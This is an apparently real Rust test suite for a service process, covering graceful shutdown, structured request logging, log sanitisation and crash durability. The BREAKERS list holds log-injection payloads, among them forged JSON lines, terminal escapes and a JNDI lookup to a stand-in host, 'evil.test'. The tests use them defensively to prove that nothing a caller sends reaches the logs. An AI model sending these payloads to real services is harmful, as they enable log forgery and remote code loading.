//! The service as a process: how it stops, what it logs, and what it leaves behind when it is killed.

use std::{
    io::{BufRead as _, BufReader, Read as _},
    path::Path,
    process::{Child, Command, Stdio},
    time::Duration,
};

use anyhow::{Context as _, Result, bail, ensure};
use futures_util::{StreamExt as _, stream::FuturesUnordered};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use reqwest::{Method, header::HeaderValue};
use serde_json::{Value, json};
use service_api::ids::{Id as _, OtpId};
use service_testkit::{
    process::{Process, command},
    response::TestClient,
    server::{Setup, TestServer, fresh_database, otp_exchange, request_code, signed_in},
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::timeout,
};
use tokio_postgres::NoTls;

const SOON: Duration = Duration::from_secs(10);
const QUESTION: &str = r#"{"email":"ann@acme.test"}"#;

fn run(test: impl AsyncFnOnce(&TestServer) -> Result<()>) -> Result<()> {
    Setup::default().on_system_clock().run(test)
}

/// A node on the server's database, with these settings changed.
fn node(server: &TestServer, changes: &[(&str, &str)]) -> Result<Process> {
    let mut settings = server.settings.clone();
    for (key, value) in changes {
        settings.set(key, value);
    }
    Process::start(Path::new(env!("CARGO_BIN_EXE_serviced")), &settings, &server.leaks)
}

/// Stops the node; every line it logged. The last one is there when the one that says so is.
async fn stopped(server: &TestServer, mut node: Process) -> Result<String> {
    ensure!(node.terminate()? == Some(0), "it did not stop in order");
    let whole = async {
        loop {
            let log = node.log();
            if String::from_utf8_lossy(&log).contains("Stopping") {
                return log;
            }
            tokio::task::yield_now().await;
        }
    };
    let log = timeout(SOON, whole).await.context("the log does not end")?;
    server.leaks.assert_clean("the node's log", &log);
    Ok(String::from_utf8(log)?)
}

async fn open(node: &Process) -> Result<TcpStream> {
    Ok(TcpStream::connect(node.http.url.trim_start_matches("http://")).await?)
}

/// Begins a request whose body is not there yet, and waits until the node works on it.
async fn begin_request(node: &Process) -> Result<TcpStream> {
    let mut stream = open(node).await?;
    let head = "POST /v1/login-options HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n";
    stream.write_all(format!("{head}Content-Length: {}\r\n\r\n{{", QUESTION.len()).as_bytes()).await?;
    let worked_on = async {
        while !node.ops.get("/metrics", None).await?.text.contains("service_bodies_room 4095\n") {}
        anyhow::Ok(())
    };
    timeout(SOON, worked_on).await.context("the request did not begin")??;
    Ok(stream)
}

fn tell_to_stop(pid: u32) -> Result<()> {
    ensure!(Command::new("kill").args(["-TERM", &pid.to_string()]).status()?.success());
    Ok(())
}

#[test]
fn a_stopping_node_finishes_what_it_has_begun_and_begins_nothing() -> Result<()> {
    run(async |server| {
        let mut node = node(server, &[])?;
        let mut resting = open(&node).await?;
        let mut begun = begin_request(&node).await?;
        tell_to_stop(node.pid())?;

        let refused = async { while open(&node).await.is_ok() || node.ops.get("/readyz", None).await.is_ok() {} };
        timeout(SOON, refused).await.context("it still takes connections")?;
        assert_eq!(timeout(SOON, resting.read(&mut [0])).await?.unwrap_or(0), 0, "a resting connection was kept");

        begun.write_all(&QUESTION.as_bytes()[1..]).await?;
        let mut response = String::new();
        timeout(SOON, begun.read_to_string(&mut response)).await??;
        assert!(response.starts_with("HTTP/1.1 200 ") && response.contains("connection: close\r\n"), "{response}");
        assert_eq!(node.wait()?.code(), Some(0));
        Ok(())
    })
}

#[test]
fn a_stopping_node_does_not_wait_for_ever() -> Result<()> {
    run(async |server| {
        let mut node = node(server, &[("http.drain_seconds", "0.5")])?;
        let _begun = begin_request(&node).await?;
        let ended = tokio::task::spawn_blocking(move || node.terminate());
        assert_eq!(timeout(Duration::from_secs(5), ended).await.context("it goes on")???, Some(0));
        Ok(())
    })
}

#[test]
fn each_request_is_one_line_of_the_log() -> Result<()> {
    run(async |server| {
        let node = node(server, &[])?;
        let (otp_id, code) = request_code(&node.http, &server.mailbox, &server.leaks, "ann@acme.test").await?;
        let http = &node.http;
        let ann = signed_in(&http.post("/oauth/token", &otp_exchange(&otp_id, &code, "read")).await?)?;
        let mut expected = Vec::new();
        for (method, path, route, status) in [
            ("GET", "/v1/whoami?workspaceId=personal", "/v1/whoami", 200),
            ("GET", "/v1/projects?limit=7", "/v1/projects", 200),
            ("GET", "/v1/projects?cursor=canary", "/v1/projects", 400),
            ("HEAD", "/.well-known/jwks.json?canary=1", "/.well-known/jwks.json", 200),
            ("GET", "/v1/canary/canary@acme.test", "unmatched", 404),
            ("DELETE", "/v1/whoami", "/v1/whoami", 405),
            ("POST", "/oauth/token?code=canary", "/oauth/token", 400),
        ] {
            let request = http.request(method.parse()?, path).bearer_auth(&ann.access_token);
            let response = http.send(request).await?;
            assert_eq!(response.status, status, "{method} {path}");
            expected.push((method, route, status, response.header("x-request-id").unwrap_or_default().to_owned()));
        }
        let log = stopped(server, node).await?;
        assert!(!log.contains("canary") && !log.contains("acme") && !log.contains("limit=7"), "the log tells too much");
        let events: Vec<Value> = log.lines().map(serde_json::from_str).collect::<Result<_, _>>()?;
        assert!(events.iter().all(|event| event["timestamp"].is_string() && event["level"].is_string()), "{log}");
        for (method, route, status, id) in expected {
            let lines: Vec<_> = events.iter().filter(|event| event["request.id"] == *id).collect();
            let [line] = lines[..] else { bail!("{} lines for {method} {route}", lines.len()) };
            assert_eq!(line["message"], "Request");
            assert_eq!((&line["method"], &line["route"]), (&json!(method), &json!(route)));
            assert_eq!(line["status"], status);
            assert!(line["ms"].as_f64().is_some_and(|ms| (0.0..10_000.0).contains(&ms)), "{line}");
        }
        Ok(())
    })
}

#[test]
fn a_warning_inside_a_flow_has_the_id_of_its_request() -> Result<()> {
    run(async |server| {
        let (_, secret) = crate::support::revoke::reports(server).await?;
        // Also where the lines of the requests themselves are not logged.
        let node = node(server, &[("log.filter", "warn,serviced=info,service_server::server=info")])?;
        let reported = node.http.post("/v1/token-leaks", &json!({ "tokens": [secret] })).await?;
        assert_eq!(reported.status, 202);
        let id = reported.header("x-request-id").context("no id")?.to_owned();
        let log = stopped(server, node).await?;
        let events: Vec<Value> = log.lines().map(serde_json::from_str).collect::<Result<_, _>>()?;
        let warned = |event: &&Value| event["client"].is_string();
        let [warning] = events.iter().filter(warned).collect::<Vec<_>>()[..] else { bail!("no warning: {log}") };
        assert_eq!(warning["span"], json!({ "name": "request", "request.id": id, "route": "/v1/token-leaks" }));
        Ok(())
    })
}

/// Breaks out of a line, a terminal and JSON; `canary` is what to look for.
const BREAKERS: [&str; 5] = [
    "canary\r\n{\"level\":\"ERROR\",\"message\":\"canary\"}",
    "canary\u{1b}[2J\u{1b}]0;canary\u{7}",
    "canary\",\"level\":\"ERROR\",\"canary\":\"",
    "canary\u{2028}canary\u{85}canary\u{202e}",
    "canary${jndi:ldap://evil.test/a}%n%s{}",
];

/// Every input there is, with something in it that breaks out. What cannot be sent as a header is sent escaped.
async fn send_breakers(http: &TestClient) -> Result<()> {
    for text in BREAKERS {
        let escaped = utf8_percent_encode(text, NON_ALPHANUMERIC).to_string();
        let header = text.replace(['\r', '\n', '\u{1b}', '\u{7}'], "");
        for path in
            [format!("/{escaped}"), format!("/v1/whoami?{escaped}={escaped}"), format!("/v1/projects?cursor={escaped}")]
        {
            let mut request = http.request(Method::GET, &path);
            for name in ["user-agent", "x-request-id", "x-forwarded-for", "cookie", "origin", "referer", "x-canary"] {
                request = request.header(name, HeaderValue::from_bytes(header.as_bytes())?);
            }
            http.send(request.header("authorization", format!("Bearer {escaped}"))).await?;
        }
        for (path, body) in [
            ("/v1/otp-tokens", json!({ "email": text })),
            ("/v1/otp-tokens", json!({ "email": format!("canary{text}@acme.test"), "clientId": text })),
            ("/v1/otp-tokens", json!({ text: text })),
            ("/v1/login-options", json!({ "email": format!("\"{text}\"@acme.test") })),
            ("/oauth/token", json!({ "grant_type": text, "client_id": text })),
            ("/oauth/token", otp_exchange(text, text, text)),
        ] {
            let response = http.post(path, &body).await?;
            ensure!(
                response.status.is_client_error() && !response.text.contains("canary"),
                "{path}: {}",
                response.text
            );
        }
        let request = http
            .request(Method::POST, "/oauth/token")
            .header("content-type", header.replace(|c: char| !c.is_ascii(), ""));
        http.send(request.body(text)).await?;
    }
    for method in ["CANARY", "canary|~!#$%&'*+-.^_`", &"CANARY".repeat(1_000)] {
        http.send(http.request(Method::from_bytes(method.as_bytes())?, "/v1/whoami")).await?;
        http.raw(format!("{method}\r\n\r\n").as_bytes()).await?;
    }
    Ok(())
}

fn check_log(log: &str) {
    assert!(!log.contains("canary") && !log.contains("CANARY"), "the log holds what was sent");
    assert!(log.chars().all(|c| c == '\n' || !c.is_control()), "the log holds control characters");
    assert!(log.matches("Request").count() > BREAKERS.len() * 10, "the requests are not logged");
}

#[test]
fn nothing_a_caller_sends_gets_into_the_log_lg_02() -> Result<()> {
    run(async |server| {
        let node = node(server, &[("log.filter", "trace"), ("http.trusted_proxies", "127.0.0.0/8")])?;
        send_breakers(&node.http).await?;
        let log = stopped(server, node).await?;
        check_log(&log);
        for line in log.lines() {
            assert!(serde_json::from_str::<Value>(line).is_ok_and(|event| event["message"].is_string()), "{line}");
        }
        Ok(())
    })
}

/// Sends everything to a node that logs for people, and stops it; what it logged in between.
async fn logged_for_people(server: &TestServer, node: &mut Child) -> Result<String> {
    let (mut log, mut started) = (BufReader::new(node.stderr.take().context("no log")?), String::new());
    // Warnings about the installation may stand before it.
    while !started.contains("Ready address=") && log.read_line(&mut started)? > 0 {}
    let address = started.split("Ready address=").nth(1).and_then(|rest| rest.split(' ').next());
    let http = TestClient::new(format!("http://{}", address.context("not ready")?), server.leaks.clone())?;
    send_breakers(&http).await?;
    tell_to_stop(node.id())?;
    let mut rest = String::new();
    log.read_to_string(&mut rest)?;
    ensure!(node.wait()?.success(), "it did not stop in order");
    Ok(rest)
}

#[test]
fn nothing_a_caller_sends_gets_into_a_log_for_people_lg_02() -> Result<()> {
    run(async |server| {
        let mut settings = server.settings.clone();
        settings.set("log.format", "text");
        let mut command = command(Path::new(env!("CARGO_BIN_EXE_serviced")), &settings, "run");
        let mut node = command.stderr(Stdio::piped()).spawn()?;
        let logged = logged_for_people(server, &mut node).await;
        drop(node.kill());
        let log = logged?;
        check_log(&log);
        assert!(log.lines().all(|line| line.starts_with("20") && line.contains("Z ")), "{log}");
        Ok(())
    })
}

#[test]
fn a_killed_node_has_lost_nothing_that_it_acknowledged() -> Result<()> {
    run(async |server| {
        let url = server.cluster.service_url(&fresh_database(server.cluster).await?);
        let changes = [("database.url", url.as_str())];
        let mut first = node(server, &changes)?;
        let http = first.http.clone();
        let ask = async |email: &str| request_code(&http, &server.mailbox, &server.leaks, email).await;
        let (ann, bob) = (ask("ann@acme.test").await?, ask("bob@acme.test").await?);
        let ann = signed_in(&http.post("/oauth/token", &otp_exchange(&ann.0, &ann.1, "read")).await?)?;

        // Killed in the middle of forty more, at the tenth that was acknowledged.
        let requests = (0..40).map(|number| {
            let body = json!({ "email": format!("user{number}@acme.test") });
            let http = http.clone();
            async move { http.post("/v1/otp-tokens", &body).await }
        });
        let (mut requests, mut acknowledged) = (requests.collect::<FuturesUnordered<_>>(), Vec::new());
        while let Some(response) = requests.next().await {
            acknowledged.extend(response.ok().filter(|response| response.status == 201));
            if acknowledged.len() == 10 {
                first.kill()?;
            }
        }
        assert!((10..40).contains(&acknowledged.len()), "{} were acknowledged", acknowledged.len());

        let second = node(server, &changes)?;
        let whoami = second.http.get("/v1/whoami", Some(&ann.access_token)).await?;
        assert_eq!(whoami.body["user"]["email"], "ann@acme.test");
        let response = second.http.post("/oauth/token", &otp_exchange(&bob.0, &bob.1, "read")).await?;
        assert_eq!(response.status, 200, "{}", response.error());
        let (client, connection) = tokio_postgres::connect(&url, NoTls).await?;
        tokio::spawn(connection);
        for response in &acknowledged {
            let id: OtpId = response.field("otpId").parse()?;
            let found = client.query("select from otps where id = $1", &[&id.uuid()]).await?;
            assert_eq!(found.len(), 1, "an acknowledged code is gone");
        }
        Ok(())
    })
}
